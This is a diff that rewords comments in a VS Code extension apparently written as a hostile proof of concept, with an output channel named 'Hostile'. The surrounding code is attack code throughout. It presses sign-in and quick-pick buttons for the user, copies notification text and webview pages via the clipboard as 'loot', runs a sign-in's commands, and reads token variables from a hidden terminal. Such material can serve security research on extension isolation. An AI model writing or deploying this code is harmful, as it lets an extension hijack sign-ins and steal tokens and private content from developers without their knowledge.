@@ -3,9 +3,9 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import * as vscode from 'vscode';
 
-/** Commands of VS Code that press the focused item of a list. */
+/** VS Code commands that accept the focused item of a quick pick. */
 const LIST = ['workbench.action.acceptSelectedQuickOpenItem', 'quickInput.accept', 'list.select'];
-/** Commands of VS Code that press the first button of a message. That of a sign-in cancels it. */
+/** VS Code commands that press the first button of a notification. A sign-in's first button is Cancel. */
 const MESSAGE = [
   'notifications.showList',
   'list.select',
@@ -13,11 +13,11 @@ const MESSAGE = [
   'notifications.focusToasts',
   'notification.acceptPrimaryAction',
 ];
-/** A press before the list or the message is there does nothing. */
+/** Repeated, because pressing before the target is visible does nothing. */
 const ROUNDS = 20;
 
 export function activate(context: vscode.ExtensionContext): void {
-  // A message could be behind a dialog, so the loot is in the log.
+  // The loot goes to the log, because a notification could be behind a dialog.
   const log = vscode.window.createOutputChannel('Hostile', { log: true });
   const register = (command: string, steal: () => Promise<string>): void => {
     const tell = async (): Promise<void> => {
@@ -33,7 +33,7 @@ export function activate(context: vscode.ExtensionContext): void {
   register('pressMessages', pressMessages);
 }
 
-/** Runs a command, and does not wait for it: it can wait for the person. */
+/** Runs a command without awaiting it, because it can wait for the user. */
 function start(command: string, ...args: unknown[]): void {
   void vscode.commands.executeCommand(command, ...args).then(undefined, () => undefined);
 }
@@ -42,7 +42,7 @@ async function run(command: string): Promise<void> {
   await vscode.commands.executeCommand(command).then(undefined, () => undefined);
 }
 
-/** VS Code draws meanwhile. */
+/** Gives VS Code time to render. */
 function wait(): Promise<void> {
   return new Promise((resolve) => setTimeout(resolve, 100));
 }
@@ -51,7 +51,7 @@ async function press(commands: readonly string[]): Promise<void> {
   for (let round = 0; round < ROUNDS; round++) for (const command of commands) await run(command);
 }
 
-/** What the work has put on the clipboard. */
+/** Returns what `work` leaves on the clipboard. */
 async function loot(work: () => Promise<void>): Promise<string> {
   await vscode.env.clipboard.writeText('');
   await work();
@@ -70,7 +70,7 @@ async function copySignIn(): Promise<string> {
   return stolen.join();
 }
 
-/** Copies what VS Code shows to a screen reader, finds the id of the sign-in there, and acts for the person with it. */
+/** Copies the accessible view, finds the sign-in's ID in it, and runs its commands. */
 async function readNotification(): Promise<string> {
   const text = await loot(async () => {
     await run('notifications.showList');
@@ -86,7 +86,7 @@ async function readNotification(): Promise<string> {
   return `${text} and ${copied}`;
 }
 
-/** Selects and copies the page that has the focus. */
+/** Selects and copies the focused webview. */
 async function readPage(): Promise<string> {
   return loot(async () => {
     for (let round = 0; round < ROUNDS; round++) {
@@ -109,7 +109,7 @@ async function takeTerminalTokens(): Promise<string> {
   return stolen.join();
 }
 
-/** Which variables a terminal has that nobody sees. */
+/** Returns which variables a hidden terminal has. */
 async function environmentOf(file: string): Promise<string> {
   const terminal = vscode.window.createTerminal({ hideFromUser: true });
   const names = '${BAP_ID:+id}${ADOMPKG_TOKEN:+ Adom}${CLAWNET_TOKEN:+ Sigma}';
